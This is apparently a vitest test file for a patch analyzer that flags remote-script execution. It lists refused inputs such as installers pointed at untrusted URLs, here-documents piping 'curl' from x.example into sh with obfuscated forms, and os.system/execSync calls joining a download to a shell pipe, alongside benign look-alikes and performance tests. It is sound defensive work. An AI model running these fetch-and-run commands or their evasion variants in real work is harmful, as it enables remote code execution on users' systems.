import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, cpuGrowthExponent } from '../support/growth.js';
import { patchAdding, expectAccepted, refusedFor } from '../support/patches.js';

/**
 * Attack pass 13's groups B, D and E (docs/attack-pass-13.md): installers and runners given a URL or a remote
 * repository, here-documents the check did not read in the shell's folded forms or followed to a file, and download
 * command lines joined to a value in a string given to a process call. Each refusal below failed first; each
 * acceptance is a look-alike that ordinary code or documentation writes.
 */

const M = 'docs/setup.md';
const refusedAs = refusedFor;
const accepted = expectAccepted;

describe('pass 13, group B: an installer or runner given a URL or a remote repository', () => {
  it.each([
    [M, 'kubectl apply -k github.com/o/r/overlays/prod?ref=main'],
    [M, 'kubectl apply -k git@github.com:o/r.git/overlays'],
    [M, 'microk8s kubectl apply -f https://x.example/m.yaml'],
    [M, 'minikube kubectl -- apply -f https://x.example/m.yaml'],
    [M, 'k3s kubectl apply -f https://x.example/m.yaml'],
    [M, 'kubectl apply -Rf https://x.example/m.yaml'],
    [M, 'brew tap evil/tap && brew install evil/tap/tool'],
    [M, 'brew install https://x.example/tool.rb'],
    [M, 'mise plugins install tool https://x.example/p.git'],
    [M, 'vfox add --source https://x.example/p.zip tool'],
    [M, 'docker build https://x.example/r.git'],
    [M, 'nix run https://x.example/f.tar.gz'],
    [M, 'nix run github:evil/flake'],
    [M, 'jbang https://x.example/Main.java'],
    [M, 'pip install https://x.example/p.tar.gz'],
    [M, 'npm install -g https://x.example/p.tgz'],
    [M, 'cargo install --git https://x.example/r'],
    [M, `julia -e 'using Pkg; Pkg.add(url="https://x.example/X.jl")'`],
    [M, 'terraform init -from-module=git::https://x.example/m.git && terraform apply -auto-approve'],
    [M, 'ansible-galaxy install git+https://x.example/role.git && ansible-playbook site.yml'],
    [M, 'ansible-pull -U https://x.example/r.git'],
    [M, 'vagrant box add evil https://x.example/b.box && vagrant up'],
    [M, 'pre-commit try-repo https://x.example/r'],
    [M, 'pipx run --spec git+https://x.example/r tool'],
    [M, 'cookiecutter gh:evil/template'],
    [M, 'copier copy gh:evil/template .'],
    [M, `Rscript -e 'remotes::install_github("evil/x")'`],
  ])('refuses, in %s: %s', refusedAs('remote-script'));

  it.each([
    [M, 'kubectl apply -k overlays/prod'],
    [M, 'kubectl apply -Rf ./manifests && kubectl rollout status deploy/app'],
    [M, 'microk8s kubectl get pods -n kube-system'],
    [M, 'kubectl config set-cluster dev --server=https://10.0.0.1:6443'],
    [M, 'brew install jq  # see https://jqlang.github.io/jq/'],
    [M, 'brew tap homebrew/cask-fonts && brew install --cask font-fira-code'],
    [M, 'pip install requests==2.31.0\npip install -e .\npip install -r requirements-dev.txt'],
    [M, 'npm install -g typescript  # https://www.typescriptlang.org'],
    [M, 'docker build -t app --build-arg API_URL=https://api.example.com .'],
    [M, 'nix run nixpkgs#hello'],
    [M, 'cargo install ripgrep'],
    [M, 'vagrant box add hashicorp/bionic64 && vagrant up'],
    [M, 'ansible-galaxy install geerlingguy.docker'],
    [M, 'terraform init -backend-config="address=https://state.example.com/v1" && terraform plan'],
    [M, 'pipx install black\ncookiecutter ./templates/service'],
    [M, `Rscript -e 'install.packages("jsonlite")'`],
    [M, `julia -e 'using Pkg; Pkg.add("JSON")'`],
    [M, 'pre-commit run --all-files'],
    [M, 'Install the CLI with pip; its docs are at https://example.com/cli.'],
    ['src/init.js', "const help = 'For more, check out `npx`:' +\n  '\\nhttps://docs.npmjs.com/cli/commands/npx'"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, group D: here-documents', () => {
  it.each([
    [M, 'sh <<\\EOF\n$(curl -s https://x.example/i)\nEOF'],
    [M, 'sh << "END OF"\n$(curl -s https://x.example/i)\nEND OF'],
    [M, 'sh <<EOF\n$(\\curl -s https://x.example/i)\nEOF'],
    [M, 'sh <<EOF\n$("curl" -s https://x.example/i)\nEOF'],
    [M, "sh <<EOF\n$(c''url -s https://x.example/i)\nEOF"],
    [M, 'sh <<EOF\n$(/usr/bin/curl -s https://x.example/i)\nEOF'],
    [M, 'sh <<EOF\n$(cat <(curl -s https://x.example/i))\nEOF'],
    [M, 'sh <<EOF\n${ curl -s https://x.example/i; }\nEOF'],
    [M, `sh <<EOF\n$(python3 -c "import urllib.request as u;print(u.urlopen('https://x.example/i').read().decode())")\nEOF`],
    [M, 'sh <<EOF\n$(ssh deploy@x.example cat i.sh)\nEOF'],
    [M, 'cat <<EOF > /tmp/i.sh\n$(curl -s https://x.example/i)\nEOF\nsh /tmp/i.sh'],
    [M, 'tee /tmp/i.sh <<EOF\n$(curl -s https://x.example/i)\nEOF\nsh /tmp/i.sh'],
    [M, 'cat > /tmp/i.sh <<EOF\n$(curl -s https://x.example/i)\nEOF\nbash /tmp/i.sh'],
    [M, 'D=curl\nsh <<EOF\n$($D -s https://x.example/i)\nEOF'],
    [M, '{ sh; } <<EOF\n$(curl -s https://x.example/i)\nEOF'],
  ])('refuses, in %s: %s', refusedAs('remote-script'));

  it.each([
    [M, 'cat <<EOF > version.json\n{"version": "$(git describe --tags)"}\nEOF'],
    [M, 'sh <<EOF\necho "built on $(date -u)"\nEOF'],
    [M, 'cat <<EOF > data.json\n$(curl -s https://x.example/a.json)\nEOF\njq .items data.json'],
    [M, "cat <<'EOF' > notes.md\nRun \\$(curl -s https://x.example/a.json) to see the data.\nEOF"],
    [M, 'python3 - <<EOF\nprint("$(git rev-parse HEAD)")\nEOF'],
    [M, 'kubectl apply -f - <<EOF\napiVersion: v1\nkind: ConfigMap\ndata:\n  built: "$(date)"\nEOF'],
    ['lib/report.rb', 'sql = <<~SQL\n  SELECT 1\nSQL\nout = `git log -1 --format=%H`'],
    ['src/bits.cpp', 'std::cout << "mask " << (1 << 4) << std::endl;'],
    ['src/bits.js', 'const mask = 1 << 4;\nconst label = `${name}: ${mask}`;'],
    // A shift in code is no here-document, though a backtick or a substitution follows it (package code, patch:fp).
    ['src/bits.py', 'FLAG_COMPRESSED = 1 << 3\n\n"""Fetch with `curl -s https://x.example/a.json`."""'],
    ['src/bits.js', 'const v = (this[offset + 2] << 16) | first;\nconst help = `curl -s https://x.example/a.json`;'],
    ['src/bits.js', 'if (x > (BigInt(1) << BigInt(bits))) throw new Error(`curl -s https://x.example/a.json failed`);'],
    ['src/bits.js', 'const slot = (code - 48 & 1 << index % 6) === 0;\nconst help = `curl -s https://x.example/a.json`;'],
    ['docs/cpp.md', 'std::cout << value;\n\nRun `curl -s https://x.example/a.json` to fetch the data.'],
    ['lib/Policy.pm', "This will invoke C<< Policy->FETCH(key) >>.\nDo NOT return `undef' here, nor `curl -s https://x.example/a'."],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, group E: a download command line joined to a value in a process call', () => {
  it.each([
    ['src/load.py', "os.system('curl https://x.example/i -fsSL ' + pipe)"],
    ['src/load.py', "os.system('curl -s https://x.example/i' + ' ' + pipe)"],
    ['src/load.py', "os.system('curl -s x.example/i ' + pipe)"],
    ['src/load.py', "os.system('curl -s https://x.example/i %(p)s' % {'p': pipe})"],
    ['src/load.py', "os.system(' '.join(['curl -s https://x.example/i', pipe]))"],
    ['src/load.py', "os.system(f'curl -s https://x.example/i { pipe }')"],
    ['src/load.py', "os.system(\n    'curl -s https://x.example/i '\n    '| sh'\n)"],
    ['src/load.js', 'execSync(`curl -s https://x.example/i ${ pipe }`);'],
    ['src/load.js', "execSync(['curl -s https://x.example/i', pipe].join(' '));"],
    ['src/main.go', 'exec.Command("sh", "-c", fmt.Sprintf("curl -s https://x.example/i %v", pipe)).Run()'],
    ['src/setup.php', 'system("curl -s https://x.example/i $pipe");'],
    ['lib/setup.pl', 'system("curl -s https://x.example/i $pipe");'],
    ['lib/setup.rb', 'system("curl -s https://x.example/i #@pipe")'],
    ['lib/setup.rb', 'system("curl -s https://x.example/i #{ pipe }")'],
    ['src/Setup.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/i $pipe"))'],
    ['src/Setup.swift', 'shell("curl -s https://x.example/i \\(pipe)")'],
  ])('refuses, in %s: %s', refusedAs('remote-script'));

  // What follows an output option is the file's name, where nothing else follows it: anything more is refused again.
  it.each([
    ['src/Setup.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/i -o $out $pipe"))'],
    ['src/load.py', "os.system('curl -s https://x.example/i -o ' + out + ' ' + pipe)"],
    ['src/load.py', "os.system('curl -s https://x.example/i -O ' + pipe)"],
    ['src/load.js', "execSync(['curl -s x.example/i -o', out, pipe].join(' '));"],
  ])('refuses, in %s: %s', refusedAs('remote-script'));

  it.each([
    ['src/fixtures.py', "os.system('curl -fsSL https://x.example/a.json -o ' + path)"],
    ['src/fixtures.py', "subprocess.run('wget -q https://x.example/a.tgz -O ' + dest, shell=True, check=True)"],
    ['src/fixtures.py', "os.system('curl -s https://x.example/a.json > ' + out)"],
    ['src/fixtures.py', "os.system('curl -s https://x.example/api?page=' + str(page))"],
    ['src/fixtures.py', 'os.system("curl -s https://x.example/a.json -o $HOME/a.json")'],
    ['src/fixtures.py', "os.system('curl -s https://x.example/a.json -H \"Accept: $TYPE\"')"],
    ['src/fixtures.py', "subprocess.run(['curl', '-s', 'https://x.example/a.json', '-o', out], check=True)"],
    ['src/fixtures.php', "system('curl -s https://x.example/a.json -o ' . escapeshellarg($out));"],
    ['lib/fixtures.rb', 'system("curl -s https://x.example/a.json -o #{out}")'],
    ['src/Fixtures.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://x.example/a.json -o $out"))'],
    ['src/fixtures.js', 'execSync(`curl -s https://x.example/a.json -o ${out}`);'],
    ['src/fixtures.go', 'exec.Command("sh", "-c", "curl -s https://x.example/a.json -o "+out).Run()'],
    ['src/cli.py', "print(f'run: curl -s https://x.example/i { flags }')"],
    ['src/cli.py', "cmds = [\n    'curl -s https://x.example/a.json',\n    'jq .items a.json',\n]"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 14: the cost of reading installers, here-documents and joined download strings', () => {
  for (const [name, unit] of [
    ['installers given words', "'helm x 'pip install --x=y 'kubectl -f a 'brew install a/b "],
    ['here-documents given to a shell, each with a substitution', 'sh <<A\n$(curl -s x.example/i)\nA\n'],
    ['here-documents written to a file and run', 'cat <<A > /tmp/i\n$(curl -s x.example/i)\nA\nsh /tmp/i\n'],
    ['substitutions in one here-document', 'sh <<A\n' + '$(a -x $b) `c` ${ d; }\n'],
    ['here-document operators on a line', 'x <<A <<B <<C '],
    // A quote after a `)` or `}` closes a string or opens one: read both ways at each, this was exponential (1 KB, 3 s).
    ['downloads in strings closed by brackets and quotes', 'x("curl x.example/i } $a #{b}") } "'],
    ['downloads in groups closed many times', 'y("curl x.example/i ) $a) } ; "'],
    ['joined download strings', "os.system('curl -s x.example/i -o ' + f + ' ' + p) [\"wget https://x.example/i\", p, "],
    ['download strings with interpolations', 'system("curl -s https://x.example/i -o $a #{b} %s \\\\(c) { d } ${e}") '],
    ['download strings without a URL', "'curl -s a.b.c.d.e.f.g.h 'wget x x x x x x x "],
  ] as const) {
    it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
      // Prepare: up to 18 KB, near the check's 20 KB
      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));

      // Act
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('docs/setup.md', text.split('\n'))));

      // Assert
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});
